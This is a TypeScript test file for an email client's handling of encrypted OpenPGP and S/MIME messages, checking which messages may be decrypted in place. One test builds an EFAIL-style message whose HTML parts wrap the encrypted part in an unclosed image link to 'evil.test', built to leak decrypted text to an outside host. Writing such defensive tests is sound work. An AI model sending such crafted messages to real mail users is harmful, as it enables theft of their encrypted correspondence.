import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { deskForSuite } from './desk-for-suite.ts'
import type { PreferenceDesk } from './preference-desk.ts'

describe('encrypted messages', () => {
  let desk: PreferenceDesk
  deskForSuite((opened) => void (desk = opened))
  const SEALED = 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=s'
  const body = ['--s', 'Content-Type: application/pgp-encrypted', '', 'Version: 1', '--s', 'Content-Type: application/octet-stream', '', '-----BEGIN PGP MESSAGE-----', '', 'AAAA', '-----END PGP MESSAGE-----', '--s--', ''].join('\r\n')
  const open = async (content: string, type: string) => {
    const { id } = await desk.receive({ header: { 'MIME-Version': '1.0', 'Content-Type': type }, body: content })
    return (await desk.screen({ message: id })).message
  }

  test('one that is encrypted as a whole can be opened there, one in part only downloaded', async () => {
    const whole = await open(body, SEALED)
    assert.deepEqual([whole?.encrypted?.section, whole?.sealed?.says, whole?.sealed?.opening?.words.passphrase], ['2', 'This message is encrypted with OpenPGP.', 'Passphrase'])
    assert.equal(whole?.sealed?.opening?.verdicts.verified, 'Signed by {address}.')
    const part = await open(['--out', 'Content-Type: text/html', '', '<img src="https://evil.test/?', '--out', `Content-Type: ${SEALED}`, '', body, '--out', 'Content-Type: text/html', '', '">', '--out--', ''].join('\r\n'), 'multipart/mixed; boundary=out')
    assert.match(part?.sealed?.says ?? '', /^A part of this message is encrypted/)
    assert.equal(part?.sealed?.opening, undefined)
    const smime = await open('AAAA', 'application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m')
    assert.match(smime?.sealed?.says ?? '', /S\/MIME/)
    assert.equal(smime?.sealed?.opening, undefined)
  })

  test('the encrypted part is no attachment beside what is said of it', async () => {
    const beside = ['--out', 'Content-Type: application/pdf; name=plan.pdf', '', 'x', '--out', `Content-Type: ${SEALED}`, '', body, '--out--', ''].join('\r\n')
    const named = async (content: string, type: string) => (await open(content, type))?.attachments.map(({ name }) => name)
    assert.deepEqual(await named(body, SEALED), [])
    assert.deepEqual(await named('AAAA', 'application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m'), [])
    assert.deepEqual(await named(beside, 'multipart/mixed; boundary=out'), ['plan.pdf'])
  })

  test('a block in a text can be opened where nothing else is there', async () => {
    const block = '-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----'
    assert.deepEqual((await open(block, 'text/plain'))?.encrypted, { format: 'openpgp', section: '1', content: 'text', isWhole: true })
    assert.equal((await open(`Please answer with this quoted:\n${block}`, 'text/plain'))?.sealed?.opening, undefined)
  })
})
